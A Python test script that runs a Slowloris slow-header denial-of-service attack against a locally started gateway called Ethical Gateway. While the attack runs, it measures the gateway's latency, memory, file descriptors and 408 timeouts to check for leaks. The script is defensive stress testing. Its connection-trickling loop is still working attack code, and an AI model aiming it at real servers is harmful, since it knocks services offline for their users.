#!/usr/bin/env python3
"""Slowloris against Ethical Gateway's plain HTTP listener, with a normal client's latency and the
gateway's memory and file descriptors measured before, during and after.

  python3 scripts/security/slowloris.py --binary .build/debug/ethical-gateway [-n 1500] [-d 65]
  python3 scripts/security/slowloris.py --binary .build/debug/ethical-gateway --tls --rounds 2
  python3 scripts/security/slowloris.py --pid PID --port PORT [--tls]   # a gateway you started

With --binary the script starts the gateway itself (a plain listener on 127.0.0.1 and one `respond`
route, default limits) and stops it by PID at the end. N connections (default 1500) each send a
request line and Host, then one more header byte every --interval seconds (default 4, staggered) for
D seconds (default 65); a connection the gateway closes (its 408 after headerReadTimeoutSeconds) is
replaced at once, so N stay open. Meanwhile a normal client sends plain GETs on fresh connections
(p50/p99 latency before, during, and after). The gateway's RSS (VmRSS) and open fds are sampled every
second; pmap -x is saved at the peak and 10 s after the slow connections closed (--pmap-dir), and RSS
is read again --late seconds after the close (default 30 s: the gateway's memory reclaimer looks
every 10 s). --tls runs everything over TLS (HTTP/1.1, the gateway's development certificate);
--rounds N repeats the attack on the same process (a leak grows per round, retained arenas do not).
Standard library only; every wait is bounded. Raises its own RLIMIT_NOFILE (the gateway it starts
inherits it).
"""
import argparse
import json
import multiprocessing
import os
import resource
import selectors
import shutil
import signal
import socket
import ssl
import subprocess
import sys
import tempfile
import threading
import time


def free_port():
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    p = s.getsockname()[1]
    s.close()
    return p


def proc_sample(pid):
    rss = None
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    rss = int(line.split()[1]) / 1024.0
        fds = len(os.listdir(f"/proc/{pid}/fd"))
    except (OSError, ValueError):
        return None, None
    return rss, fds


def smaps_rollup(pid):
    out = {}
    try:
        with open(f"/proc/{pid}/smaps_rollup") as f:
            for line in f:
                parts = line.split()
                if len(parts) >= 3 and parts[-1] == "kB":
                    out[parts[0].rstrip(":")] = int(parts[1]) / 1024.0
    except OSError:
        pass
    return out


def pmap_summary(pid, path):
    """Save pmap -x and summarise anonymous memory by mapping size."""
    if not shutil.which("pmap"):
        return None
    try:
        text = subprocess.run(["pmap", "-x", str(pid)], capture_output=True, text=True, timeout=10).stdout
    except subprocess.TimeoutExpired:
        return None
    if path:
        with open(path, "w") as f:
            f.write(text)
    anon = []
    for line in text.splitlines()[2:]:
        parts = line.split()
        if len(parts) >= 6 and " ".join(parts[5:]) == "[ anon ]":
            try:
                anon.append((int(parts[1]), int(parts[2])))  # size KB, RSS KB
            except ValueError:
                pass
    total_rss = sum(r for _, r in anon) / 1024.0
    big = sorted(anon, key=lambda x: -x[1])[:5]
    return {"anon_rss_mb": round(total_rss, 1), "anon_mappings": len(anon),
            "largest_anon_rss_kb": [r for _, r in big],
            "arena_like_64mb": sum(1 for s, _ in anon if 60000 <= s <= 65536)}


class Sampler(threading.Thread):
    def __init__(self, pid):
        super().__init__(daemon=True)
        self.pid = pid
        self.samples = []  # (t, rss MB, fds)
        self.stop_flag = False

    def run(self):
        t0 = time.monotonic()
        while not self.stop_flag:
            rss, fds = proc_sample(self.pid)
            if rss is not None:
                self.samples.append((round(time.monotonic() - t0, 1), rss, fds))
            time.sleep(1.0)


TLS_CTX = None  # set by --tls: every connection is TLS (the gateway's development certificate)


def connect(port, timeout):
    s = socket.create_connection(("127.0.0.1", port), timeout=timeout)
    if TLS_CTX is not None:
        s = TLS_CTX.wrap_socket(s, server_hostname="localhost")
    return s


def get_once(port, timeout=5.0):
    t = time.monotonic()
    try:
        s = connect(port, timeout)
        s.settimeout(timeout)
        s.sendall(b"GET /normal HTTP/1.1\r\nHost: probe.test\r\nConnection: close\r\n\r\n")
        data = b""
        while True:
            c = s.recv(65536)
            if not c:
                break
            data += c
        s.close()
        ok = data.startswith(b"HTTP/1.1 200")
    except (OSError, ssl.SSLError):
        ok = False
    return (time.monotonic() - t) * 1000.0, ok


def latency_phase(port, count=None, duration=None, pause=0.05):
    lat, fails = [], 0
    end = time.monotonic() + duration if duration else None
    n = 0
    while (count is None or n < count) and (end is None or time.monotonic() < end):
        ms, ok = get_once(port)
        n += 1
        if ok:
            lat.append(ms)
        else:
            fails += 1
        time.sleep(pause)
    return lat, fails


def _measure_proc(port, duration, tls, queue):
    """Latency client in its own process (no GIL shared with the slow connections' loop)."""
    global TLS_CTX
    if tls:
        TLS_CTX = ssl.create_default_context()
        TLS_CTX.check_hostname = False
        TLS_CTX.verify_mode = ssl.CERT_NONE
        TLS_CTX.set_alpn_protocols(["http/1.1"])
    t0 = time.monotonic()
    samples, fails = [], 0
    while time.monotonic() - t0 < duration:
        t = time.monotonic() - t0
        ms, ok = get_once(port)
        if ok:
            samples.append((round(t, 1), round(ms, 1)))
        else:
            fails += 1
        time.sleep(0.1)
    queue.put((samples, fails))


def pct(values, p):
    if not values:
        return None
    v = sorted(values)
    k = min(len(v) - 1, max(0, int(round(p / 100.0 * (len(v) - 1)))))
    return round(v[k], 1)


class Slow:
    """N slow connections, each trickling a header byte every `interval` seconds."""

    def __init__(self, port, n, interval):
        self.port, self.n, self.interval = port, n, interval
        self.sel = selectors.DefaultSelector()
        self.conns = {}  # sock -> [next_send, bytes_sent]
        self.opened = 0
        self.closed_by_server = 0
        self.got_408 = 0
        self.got_other = 0
        self.connect_failures = 0
        self.max_open = 0

    def _open(self, stagger):
        try:
            s = connect(self.port, 5)
            s.sendall(b"GET /slow HTTP/1.1\r\nHost: probe.test\r\n")
            s.setblocking(False)
        except (OSError, ssl.SSLError):
            self.connect_failures += 1
            return
        self.opened += 1
        self.conns[s] = [time.monotonic() + stagger, 0]
        self.sel.register(s, selectors.EVENT_READ)

    def _drop(self, s):
        try:
            self.sel.unregister(s)
        except (KeyError, ValueError):
            pass
        self.conns.pop(s, None)
        s.close()

    def run(self, duration):
        t_end = time.monotonic() + duration
        for i in range(self.n):
            self._open(self.interval * i / self.n)
        header = b"X-Slowloris-Padding: " + b"a" * 100000
        while time.monotonic() < t_end:
            for key, _ in self.sel.select(timeout=0.2):
                s = key.fileobj
                try:
                    data = s.recv(65536)
                except (BlockingIOError, InterruptedError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                    continue
                except (OSError, ssl.SSLError):
                    data = b""
                if data:
                    if data.startswith(b"HTTP/1.1 408"):
                        self.got_408 += 1
                    elif data.startswith(b"HTTP/"):
                        self.got_other += 1
                    continue
                self.closed_by_server += 1
                self._drop(s)
            now = time.monotonic()
            for s, st in list(self.conns.items()):
                if now >= st[0]:
                    try:
                        s.send(header[st[1]:st[1] + 1])
                        st[1] += 1
                        st[0] = now + self.interval
                    except (BlockingIOError, InterruptedError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                        st[0] = now + self.interval
                    except (OSError, ssl.SSLError):
                        self.closed_by_server += 1
                        self._drop(s)
            self.max_open = max(self.max_open, len(self.conns))
            # keep N open: replace what the server closed
            missing = self.n - len(self.conns)
            for _ in range(min(missing, 200)):
                self._open(0)

    def close_all(self):
        for s in list(self.conns):
            self._drop(s)


def start_gateway(binary, work, tls=False):
    port = free_port()
    listener = {"name": "slowloris", "address": "127.0.0.1", "port": port}
    if tls:
        listener["tls"] = {}
    cfg = {
        "stateDirectory": os.path.join(work, "state"),
        "logLevel": "warning",
        "listeners": [listener],
        "routes": [{"name": "all", "match": {"pathPrefix": "/"}, "backend": "ok"}],
        "backends": {"ok": {"plugin": "respond", "config": {"status": 200, "body": "ok\n"}}},
    }
    path = os.path.join(work, "slowloris-gateway.json")
    json.dump(cfg, open(path, "w"), indent=1)
    log = open(os.path.join(work, "gateway.log"), "w")
    proc = subprocess.Popen([binary, "run", "--config", path], stdout=log, stderr=subprocess.STDOUT, cwd=work)
    end = time.monotonic() + 60
    while time.monotonic() < end:
        if proc.poll() is not None:
            sys.exit("the gateway exited:\n" + open(log.name).read()[-3000:])
        try:
            socket.create_connection(("127.0.0.1", port), timeout=0.5).close()
            return proc, port
        except OSError:
            time.sleep(0.2)
    proc.terminate()
    sys.exit("the gateway did not listen")


def phase_latency(port, n):
    lat, fails = latency_phase(port, count=n)
    return {"n": len(lat), "fail": fails, "p50_ms": pct(lat, 50), "p99_ms": pct(lat, 99),
            "max_ms": round(max(lat), 1) if lat else None}


def main():
    global TLS_CTX
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--binary", help="start this gateway (plain HTTP listener, or TLS with --tls)")
    ap.add_argument("--pid", type=int, help="a running gateway's PID (with --port)")
    ap.add_argument("--port", type=int)
    ap.add_argument("--tls", action="store_true", help="TLS listener and TLS connections (HTTP/1.1)")
    ap.add_argument("-n", "--connections", type=int, default=1500)
    ap.add_argument("-d", "--duration", type=float, default=65)
    ap.add_argument("--interval", type=float, default=4.0, help="seconds between two header bytes of one connection")
    ap.add_argument("--after", type=float, default=10.0, help="seconds to wait after closing before the last sample")
    ap.add_argument("--late", type=float, default=30.0,
                    help="seconds after closing for a second sample (the gateway's memory reclaimer looks every 10 s)")
    ap.add_argument("--rounds", type=int, default=1, help="repeat the attack on the same gateway (a leak grows per round)")
    ap.add_argument("--baseline-requests", type=int, default=200)
    ap.add_argument("--pmap-dir", help="save pmap -x here (peak and after, per round)")
    ap.add_argument("--json", help="write the numbers as JSON here")
    args = ap.parse_args()
    if not args.binary and not (args.pid and args.port):
        ap.error("--binary, or --pid and --port")
    if args.tls:
        TLS_CTX = ssl.create_default_context()
        TLS_CTX.check_hostname = False
        TLS_CTX.verify_mode = ssl.CERT_NONE
        TLS_CTX.set_alpn_protocols(["http/1.1"])

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = args.connections * 2 + 1024
    if soft < want:
        try:
            resource.setrlimit(resource.RLIMIT_NOFILE, (min(want, hard), hard))
        except (ValueError, OSError):
            pass
    work = tempfile.mkdtemp(prefix="slowloris-")
    if args.pmap_dir:
        os.makedirs(args.pmap_dir, exist_ok=True)
    proc = None
    if args.binary:
        proc, port = start_gateway(os.path.abspath(args.binary), work, args.tls)
        pid = proc.pid
    else:
        pid, port = args.pid, args.port
    print(f"gateway pid {pid}, port {port}{' (TLS)' if args.tls else ''}; RLIMIT_NOFILE "
          f"{resource.getrlimit(resource.RLIMIT_NOFILE)}; {args.connections} slow connections for "
          f"{args.duration:.0f} s, {args.rounds} round(s)", file=sys.stderr)
    result = {"connections": args.connections, "duration_s": args.duration, "interval_s": args.interval,
              "tls": args.tls, "rounds": []}
    try:
        latency_phase(port, count=20)  # warm-up
        time.sleep(1)
        rss0, fds0 = proc_sample(pid)
        result["before"] = {"rss_mb": round(rss0, 1), "fds": fds0, "anon_mb": smaps_rollup(pid).get("Anonymous")}
        result["latency_before"] = phase_latency(port, args.baseline_requests)
        for rnd in range(1, args.rounds + 1):
            sampler = Sampler(pid)
            sampler.start()
            t_start = time.monotonic()
            slow = Slow(port, args.connections, args.interval)
            queue = multiprocessing.Queue()
            m = multiprocessing.Process(target=_measure_proc, args=(port, args.duration - 2, args.tls, queue), daemon=True)
            m.start()
            slow.run(args.duration)
            end_rss, end_fds = proc_sample(pid)
            peak_pmap = pmap_summary(pid, os.path.join(args.pmap_dir, f"pmap-peak-{rnd}.txt") if args.pmap_dir else None)
            peak_anon = smaps_rollup(pid).get("Anonymous")
            try:
                samples, dfails = queue.get(timeout=60)
            except Exception:
                samples, dfails = [], None
            m.join(timeout=10)
            slow.close_all()
            t_closed = time.monotonic()
            lat = [ms for _, ms in samples]
            r = {"round": rnd,
                 "latency_during": {"n": len(lat), "fail": dfails, "p50_ms": pct(lat, 50),
                                    "p99_ms": pct(lat, 99), "max_ms": round(max(lat), 1) if lat else None,
                                    "slowest_at_s_ms": sorted(samples, key=lambda x: -x[1])[:6]},
                 "slow": {"opened": slow.opened, "max_open": slow.max_open,
                          "closed_by_gateway": slow.closed_by_server, "responses_408": slow.got_408,
                          "other_responses": slow.got_other, "connect_failures": slow.connect_failures}}
            time.sleep(args.after)
            rss2, fds2 = proc_sample(pid)
            after_pmap = pmap_summary(pid, os.path.join(args.pmap_dir, f"pmap-after-{rnd}.txt") if args.pmap_dir else None)
            sampler.stop_flag = True
            smp = [x for x in sampler.samples if x[1] is not None]
            r["peak"] = {"rss_mb": round(max(x[1] for x in smp), 1) if smp else round(end_rss, 1),
                         "fds": max(x[2] for x in smp) if smp else end_fds,
                         "anon_mb": peak_anon, "pmap_anon": peak_pmap}
            r["after"] = {"seconds_after_close": args.after, "rss_mb": round(rss2, 1), "fds": fds2,
                          "anon_mb": smaps_rollup(pid).get("Anonymous"), "pmap_anon": after_pmap}
            r["latency_after"] = phase_latency(port, args.baseline_requests)
            late = max(0.0, args.late - (time.monotonic() - t_closed))
            time.sleep(late)
            rss3, fds3 = proc_sample(pid)
            r["after_late"] = {"seconds_after_close": round(time.monotonic() - t_closed, 1), "rss_mb": round(rss3, 1),
                               "fds": fds3, "anon_mb": smaps_rollup(pid).get("Anonymous")}
            r["timeline_s_rssmb_fds"] = [(t, round(x, 1), f) for t, x, f in smp][:: max(1, len(smp) // 30)]
            result["rounds"].append(r)
            print(f"round {rnd}: peak RSS {r['peak']['rss_mb']} MB, fds {r['peak']['fds']}; "
                  f"after {r['after']['rss_mb']} MB, fds {r['after']['fds']}; "
                  f"{r['after_late']['seconds_after_close']} s after: {r['after_late']['rss_mb']} MB", file=sys.stderr)
    finally:
        if proc is not None:
            proc.send_signal(signal.SIGTERM)
            try:
                proc.wait(timeout=15)
            except subprocess.TimeoutExpired:
                proc.kill()
    print(json.dumps(result, indent=1))
    if args.json:
        json.dump(result, open(args.json, "w"), indent=1)
    print(f"work directory: {work}", file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
